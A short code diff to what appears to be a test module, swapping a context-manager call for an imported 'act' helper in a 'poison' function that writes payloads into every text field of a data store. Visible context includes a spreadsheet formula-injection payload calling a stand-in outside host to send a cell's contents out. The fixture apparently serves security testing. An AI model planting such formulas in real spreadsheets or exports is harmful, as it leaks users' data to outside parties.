@@ -19,6 +19,7 @@ from services.planning.orders import orders_between
 from services.rules.areas import EVERYWHERE
 from services.rules.windows import Mode, Window
 from services.store import tables
+from tests.acting import act
 
 FORMULAS: Final = (
     '=HYPERLINK("http://outside.example/?"&A1,"x")',
@@ -48,7 +49,7 @@ _KEYS: Final = ("code", "identity_hash", "phone", "phone_hash", "keep_until")
 def poison(office: Context, payloads: tuple[str, ...], window: Window) -> int:
     """Write payloads into every text of a filled store and return the number of a plan that became orders."""
     words = itertools.cycle(payloads)
-    with office.act(Action.IMPORT) as work:
+    with act(office, Action.IMPORT) as work:
         _add_missing(work.tx)
         for layer in Layer:
             frame = work.tx.read_layer(layer)
